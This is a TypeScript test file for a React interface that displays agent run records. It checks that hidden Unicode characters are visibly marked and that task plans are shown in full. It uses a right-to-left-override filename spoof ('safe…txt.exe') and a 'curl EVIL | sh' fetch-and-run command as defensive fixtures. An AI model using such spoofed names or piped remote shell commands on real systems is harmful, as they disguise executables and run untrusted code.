import { QueryClientProvider } from "@tanstack/react-query";
import { renderToStaticMarkup } from "react-dom/server";
import { expect, test, vi } from "vitest";
import { client } from "../src/data";
import { hasHidden } from "../src/hidden";
import type { Run } from "../src/http";
import { Content } from "../src/ui/Evidence";
import { Family } from "../src/ui/Family";
import { Notes } from "../src/ui/Notes";
import { Words } from "../src/ui/bits";

// What the pages' modules look for when they are loaded.
vi.hoisted(() => Object.assign(globalThis, { window: new EventTarget(), location: new URL("http://127.0.0.1/"), matchMedia: () => ({ matches: false }) }));

const EVIL = "safe\u202etxt.exe\u200b";
const SEEN = "safe\\u{202e}txt.exe\\u{200b}";
const drawn = (element: React.ReactNode) => renderToStaticMarkup(<QueryClientProvider client={client}>{element}</QueryClientProvider>);

test("hidden characters are marked in every text, without the component's doing", () => {
  const Row = ({ title }: { title: string }) => <span className="row-title">{title}</span>;
  expect(drawn(<Row title={EVIL} />)).toBe('<span class="row-title"><span>safe<span class="hidden-char" title="a character that is not seen">\\u{202e}</span>txt.exe<span class="hidden-char" title="a character that is not seen">\\u{200b}</span></span></span>');
  expect(drawn(<p title={EVIL} aria-label={EVIL}>a {[EVIL, "b"]} {1} {null}</p>)).not.toMatch(/[\u202e\u200b]/);
});
test("where a mark cannot be an element of its own it is text", () => {
  expect(drawn(<select><option>{EVIL}</option></select>)).toBe(`<select><option>${SEEN}</option></select>`);
  expect(drawn(<svg><title>{EVIL}</title><text>{EVIL}</text></svg>)).toBe(`<svg><title>${SEEN}</title><text>${SEEN}</text></svg>`);
});
test("what is typed or copied stays as it is", () => {
  expect(drawn(<textarea defaultValue={EVIL} />)).toContain(EVIL);
  expect(drawn(<a href={`/x?q=${EVIL}`}>x</a>)).toContain(`q=${EVIL}`);
});
test("ordinary text is drawn as ever", () => {
  expect(drawn(<p>Größe{"\n"}→ 日本語 {"\t"}✓</p>)).toBe("<p>Größe\n→ 日本語 \t✓</p>");
  expect(drawn(<Words text="a `b` **c**" />)).toBe("a <code>b</code> <strong>c</strong>");
});
test("notes and tasks of a run mark what strangers wrote", () => {
  const run = {
    id: "0193f2c4-0", failure: EVIL, strangers: [{ words: EVIL, trusted: false }], direct: [{ program: EVIL, role: EVIL }], attached: { by: EVIL, since: "2026-01-01T00:00:00Z", active: true },
    assumptions: [{ number: 1, stage: EVIL, question: EVIL, answer: [EVIL], overturned: false }], goal: { tasks: [{ id: "a", title: EVIL, status: EVIL }] },
    overlaps: [{ first: EVIL, second: EVIL, files: [EVIL] }], parent: "0193f2c4-1", task: EVIL,
    tasks: [{ id: "t", title: EVIL, status: "working", dependsOn: [], cost: 0, attempt: 1, problem: EVIL, strayed: [EVIL] }],
  } as unknown as Run;
  const text = drawn(<><Notes run={run} /><Family run={run} /></>);
  expect(text.split("\\u{202e}").length).toBeGreaterThan(12);
  expect(hasHidden(text)).toBe(false);
});
test("a plan of tasks is shown whole: ids, checks, and what each belongs to", () => {
  const task = { id: "a", title: "One", description: "line\nEVIL", parent: "EVIL-parent", checks: [{ name: "unit", command: "curl EVIL | sh" }] };
  const text = drawn(<Content kind="plan" content={JSON.stringify({ summary: "All", tasks: [task] })} drawings={[]} title="" />);
  for (const shown of ["line\nEVIL", "EVIL-parent", "curl EVIL | sh"]) expect(text).toContain(shown);
});
test("a cut label and the words beside a fence are below the drawing", () => {
  const long = `keep ${"x".repeat(60)} EVIL`;
  const text = drawn(<Content kind="spec" content={`\`\`\`mermaid EVIL words\nflowchart TD\n  A[${long}] --> B[b]\n\`\`\``} drawings={[]} title="" />);
  expect(text.split('class="undrawn"')[1]).toContain(long);
  expect(text.split('class="undrawn"')[1]).toContain("EVIL words");
});
